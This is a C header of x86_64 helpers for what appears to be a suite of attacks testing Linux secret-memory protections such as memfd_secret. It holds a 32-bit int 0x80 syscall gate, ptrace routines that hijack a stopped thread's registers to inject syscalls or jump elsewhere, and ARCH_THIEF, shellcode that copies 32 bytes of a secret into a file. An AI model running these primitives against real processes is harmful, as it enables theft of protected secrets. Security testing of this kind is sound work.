/*
 * arch.h - what depends on x86_64: the 32-bit system call gate, registers, and system call numbers that the C
 * library's headers lack.
 */
#pragma once

#ifndef __x86_64__
#error "attacks are written for x86_64"
#endif

#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <time.h>

#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif
#ifndef SYS_process_mrelease
#define SYS_process_mrelease 448
#endif

/* 32-bit numbers, for int 0x80. */
enum { I386_READ = 3, I386_OPEN = 5, I386_PTRACE = 26, I386_PROCESS_VM_READV = 347, I386_PROCESS_VM_WRITEV = 348 };

/* A system call through the 32-bit gate. What arguments point to lies below 4 GB: this program is static. */
static inline long arch_int80(long number, long a, long b, long c, long d, long e, long f)
{
	long result;

	/* The sixth argument goes in ebp, which the compiler may use. */
	__asm__ volatile("mov %%rbp, %%r12\n\tmov %[sixth], %%rbp\n\tint $0x80\n\tmov %%r12, %%rbp"
			 : "=a"(result)
			 : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), [sixth] "r"(f)
			 : "memory", "r8", "r9", "r10", "r11", "r12", "cc");
	return (int)result;
}

/* Sleeps with four words in registers that the kernel keeps: what a tracer or a profiler then sees. */
static inline void arch_sleep_holding(const uint64_t words[4], const struct timespec *time)
{
	long result = SYS_nanosleep;

	__asm__ volatile("mov (%[w]), %%r12\n\tmov 8(%[w]), %%r13\n\tmov 16(%[w]), %%r14\n\tmov 24(%[w]), %%r15\n\t"
			 "syscall\n\txor %%r12, %%r12\n\txor %%r13, %%r13\n\txor %%r14, %%r14\n\txor %%r15, %%r15"
			 : "+a"(result)
			 : [w] "r"(words), "D"(time), "S"(0L)
			 : "rcx", "r11", "r12", "r13", "r14", "r15", "memory", "cc");
}

/* The four words of arch_sleep_holding out of a stopped thread's registers. */
static inline void arch_held(const struct user_regs_struct *regs, uint64_t words[4])
{
	words[0] = regs->r12;
	words[1] = regs->r13;
	words[2] = regs->r14;
	words[3] = regs->r15;
}

/* perf's bits for the same registers, in the order in which a sample has them. */
#define ARCH_PERF_HELD (0xfULL << 20)

/* The same as a kprobe's arguments, at the entry of a system call whose only argument is struct pt_regs. */
#define ARCH_PROBE_HELD "+24(%di):x64 +16(%di):x64 +8(%di):x64 +0(%di):x64"
#define ARCH_PROBE_SYSCALL "__x64_sys_nanosleep"
#define ARCH_PROBE_STRING "+0(%di):string"

/*
 * Position-independent code that is called with a secret in the first argument: writes 32 bytes of it to the file whose
 * name follows, and returns. ARCH_RETURN only returns.
 */
#define ARCH_RETURN "\xc3"
#define ARCH_THIEF                                                    \
	"\x57"                         /* push rdi */                 \
	"\x48\x8d\x3d\x26\x00\x00\x00" /* lea rdi, [the name] */      \
	"\xbe\x01\x00\x00\x00"         /* mov esi, O_WRONLY */        \
	"\x31\xd2"                     /* xor edx, edx */             \
	"\xb8\x02\x00\x00\x00\x0f\x05" /* mov eax, open; syscall */   \
	"\x5e"                         /* pop rsi */                  \
	"\x48\x89\xc7"                 /* mov rdi, rax */             \
	"\xba\x20\x00\x00\x00"         /* mov edx, 32 */              \
	"\xb8\x01\x00\x00\x00\x0f\x05" /* mov eax, write; syscall */  \
	"\xb8\x03\x00\x00\x00\x0f\x05" /* mov eax, close; syscall */  \
	"\xc3"

/* The instruction that a thread in a system call waits in. A thread that was stopped elsewhere has other code there. */
#define ARCH_SYSCALL 0x050fUL
#define ARCH_SYSCALL_AT(regs) ((regs)->rip - 2)

/* Registers for a system call in a thread that is stopped in another one. */
static inline void arch_call(struct user_regs_struct *regs, long number, const uint64_t args[4])
{
	regs->rip = ARCH_SYSCALL_AT(regs);
	regs->orig_rax = (unsigned long long)-1LL; /* nothing to restart */
	regs->rax = (unsigned long long)number;
	regs->rdi = args[0];
	regs->rsi = args[1];
	regs->rdx = args[2];
	regs->r10 = args[3];
}

/* Registers for a thread that continues at another address. */
static inline void arch_jump(struct user_regs_struct *regs, unsigned long long to)
{
	regs->rip = to;
	regs->orig_rax = (unsigned long long)-1LL;
}
